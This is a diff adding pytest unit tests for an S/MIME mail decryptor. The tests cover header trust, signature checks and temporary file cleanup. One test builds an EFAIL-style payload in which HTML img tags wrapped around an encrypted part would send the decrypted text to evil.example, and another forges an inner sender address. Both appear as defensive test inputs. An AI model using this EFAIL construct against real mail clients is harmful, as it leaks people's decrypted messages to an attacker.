@@ -1,0 +1,207 @@
+"""Which headers are believed, what a handler gets to read, and what is never put together."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from services.decryptor.opening import Limits, may_be_secured, open_mail
+from tests.unit.smime.mails import (
+    ENTITY,
+    HEADER,
+    TEXT,
+    Opener,
+    encrypt,
+    mail,
+    multipart_signed,
+    pkcs7_entity,
+    sign,
+)
+from tests.unit.smime.pki import Holder
+
+OUTER = HEADER.replace(b"Invoice 4711", b"...")
+PROTECTED = (
+    b'Content-Type: text/plain; charset=utf-8; hp="cipher"\r\n'
+    b"Subject: =?utf-8?q?Geheime_Rechnung_=E2=82=AC?=\r\n"
+    b"From: Alice Example <alice@example.org>\r\n"
+    b"To: Bob <bob@example.org>,\r\n Carol <carol@example.org>\r\n"
+    b"Date: Fri, 2 Jan 2026 10:00:00 +0100\r\n"
+    b"Message-ID: <inner@example.org>\r\n"
+    b"HP-Outer: Subject: ...\r\n"
+    b"Content-Transfer-Encoding: 8bit\r\n\r\n" + TEXT
+)
+
+
+@pytest.mark.parametrize(
+    ("header", "expected"),
+    [
+        (b"Content-Type: application/pkcs7-mime; name=x\r\n", True),
+        (b"Subject: x\r\nCONTENT-TYPE : Application/X-PKCS7-MIME\r\n", True),
+        (b'Content-Type: application/octet-stream;\r\n name="SMIME.P7M"\r\n', True),
+        (
+            b"Content-Type: application/octet-stream\r\n"
+            b"Content-Disposition: attachment; filename=smime.p7m\r\n",
+            True,
+        ),
+        (b"Content-Type: multipart/signed; boundary=x\r\n", True),
+        (b"Content-Type: multipart/encrypted; boundary=x\r\n", True),
+        (b"Content-Type: text/plain\r\n", True),
+        (b"Subject: no type at all\r\n", True),
+        (b"Content-Type: text/html\r\n", False),
+        (b"Content-Type: multipart/mixed; boundary=x\r\n", False),
+        (b"Content-Type: application/octet-stream; name=a.pdf\r\n", False),
+        (b"X-Content-Type: application/pkcs7-mime\r\nContent-Type: text/html\r\n", False),
+        (b"Subject: x\r\n Content-Type: application/pkcs7-mime\r\nContent-Type: text/html\r\n",
+         False),
+    ],
+)  # fmt: skip
+def test_may_be_secured(header: bytes, expected: bool) -> None:
+    assert may_be_secured(header) is expected
+    assert may_be_secured(header + b"\r\nContent-Type: application/pkcs7-mime") is expected
+
+
+def test_texts_are_left_out_where_there_is_no_openpgp_key() -> None:
+    assert not may_be_secured(b"Content-Type: text/plain\r\n", inline=False)
+    assert may_be_secured(b"Content-Type: application/pkcs7-mime\r\n", inline=False)
+
+
+def test_plain_mail_has_nothing_to_tell(opener: Opener) -> None:
+    for raw in (HEADER + ENTITY, b"", b"\r\n", b"garbage without any colon", b"\xff" * 100):
+        with opener(raw) as opened:
+            assert opened.content is None
+            assert not opened.security.encrypted
+            assert opened.security.status == "none"
+            assert opened.security.signature == "none"
+            assert opened.headers == {}
+
+
+@pytest.mark.promise("C2")
+def test_protected_headers_of_an_encrypted_mail(opener: Opener, holders: dict[str, Holder]) -> None:
+    sealed = mail(encrypt("-aes-256-gcm", holders["rsa"].cert, data=PROTECTED), header=OUTER)
+    with opener(sealed) as opened:
+        assert opened.headers == {
+            "subject": "Geheime Rechnung €",
+            "from": "Alice Example <alice@example.org>",
+            "to": "Bob <bob@example.org>, Carol <carol@example.org>",
+            "date": "Fri, 2 Jan 2026 10:00:00 +0100",
+            "message_id": "<inner@example.org>",
+        }
+        assert isinstance(opened.content, bytes)
+        header, _, text = opened.content.partition(b"\r\n\r\n")
+        assert text == TEXT
+        assert header.lower().count(b"\nsubject:") == 1
+        assert b"Subject: =?utf-8?q?Geheime" in header
+        assert b"Received: from mx.example.net" in header
+        assert b"Carol <carol@example.org>" in header
+
+
+def test_wrapped_message(opener: Opener, holders: dict[str, Holder]) -> None:
+    """RFC 8551 section 3.1: a whole mail, wrapped so that its header is protected."""
+    wrapped = (
+        b"Content-Type: message/rfc822; forwarded=no\r\n\r\n"
+        + HEADER.replace(b"4711", b"9")
+        + ENTITY
+    )
+    with opener(
+        mail(encrypt("-aes256", holders["rsa"].cert, data=wrapped), header=OUTER)
+    ) as opened:
+        assert opened.headers["subject"] == "Invoice 9"
+        assert isinstance(opened.content, bytes)
+        assert opened.content.endswith(ENTITY)
+        assert b"message/rfc822" not in opened.content
+
+
+def test_forwarded_message_is_not_a_header(opener: Opener, holders: dict[str, Holder]) -> None:
+    forwarded = (
+        b"Content-Type: message/rfc822\r\n\r\n"
+        + HEADER.replace(b"alice@", b"dave@").replace(b"4711", b"9")
+        + ENTITY
+    )
+    with opener(mail(encrypt("-aes256", holders["rsa"].cert, data=forwarded))) as opened:
+        assert opened.headers == {}
+        assert isinstance(opened.content, bytes)
+        assert b"message/rfc822" in opened.content
+
+
+def test_author_of_an_unsigned_mail_is_not_taken_from_inside(
+    opener: Opener, holders: dict[str, Holder]
+) -> None:
+    """Anyone can encrypt: the mail servers vouched for the outer From only."""
+    forged = PROTECTED.replace(b"alice@example.org", b"ceo@example.org")
+    with opener(mail(encrypt("-aes256", holders["rsa"].cert, data=forged))) as opened:
+        assert "from" not in opened.headers
+        assert opened.headers["subject"] == "Geheime Rechnung €"
+        assert isinstance(opened.content, bytes)
+        assert b"ceo@example.org" not in opened.content
+
+
+def test_author_is_taken_from_inside_where_he_signed(
+    opener: Opener, holders: dict[str, Holder]
+) -> None:
+    alice = holders["alice"]
+    relayed = HEADER.replace(b"alice@example.org", b"list@example.net")
+    raw = relayed + multipart_signed(alice.cert, alice.key, entity=PROTECTED)
+    with opener(raw) as opened:
+        assert opened.security.signature == "valid"
+        assert opened.headers["from"] == "Alice Example <alice@example.org>"
+
+
+def test_headers_of_a_changed_mail_are_not_believed(
+    opener: Opener, holders: dict[str, Holder]
+) -> None:
+    alice = holders["alice"]
+    raw = OUTER + multipart_signed(alice.cert, alice.key, entity=PROTECTED)
+    with opener(raw.replace(b"Geheime", b"Andere")) as opened:
+        assert opened.security.signature == "invalid"
+        assert opened.headers == {}
+
+
+@pytest.mark.promise("C2")
+def test_encrypted_part_among_others_is_not_opened(
+    opener: Opener, holders: dict[str, Holder]
+) -> None:
+    """EFAIL: the text around a part could carry the decrypted text away."""
+    sealed = pkcs7_entity(encrypt("-aes256", holders["rsa"].cert))
+    raw = (
+        HEADER + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
+        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--m\r\n'
+        + sealed
+        + b'\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n'
+    )
+    with opener(raw) as opened:
+        assert opened.content is None
+        assert opened.security.status == "none"
+
+
+def test_file_in_file_out(opener: Opener, holders: dict[str, Holder], tmp_path: Path) -> None:
+    """A large mail goes through files, which are gone when it is closed."""
+    entity = ENTITY + b"x" * 500_000
+    source = tmp_path / "mail.eml"
+    alice = holders["alice"]
+    inner = pkcs7_entity(
+        sign(alice.cert, alice.key, "-stream", "-indef", data=entity), "signed-data"
+    )
+    source.write_bytes(
+        mail(encrypt("-aes256", "-stream", "-indef", holders["rsa"].cert, data=inner))
+    )
+    spool = tmp_path / "spool"
+    spool.mkdir()
+    with source.open("rb") as raw:
+        opened = open_mail(
+            raw, opener.identities, opener.trust, limits=Limits(memory_bytes=1000), spool_dir=spool
+        )
+        with opened:
+            assert opened.security.signature == "valid"
+            assert isinstance(opened.content, Path)
+            assert opened.content.parent == spool
+            assert opened.content.read_bytes() == HEADER + entity
+    assert list(spool.iterdir()) == []
+
+
+def test_mail_from_a_pipe(opener: Opener, holders: dict[str, Holder], tmp_path: Path) -> None:
+    import io
+
+    raw = io.BytesIO(mail(encrypt("-aes256", holders["rsa"].cert)))
+    with open_mail(raw, opener.identities, opener.trust, spool_dir=tmp_path) as opened:
+        assert opened.content == HEADER + ENTITY
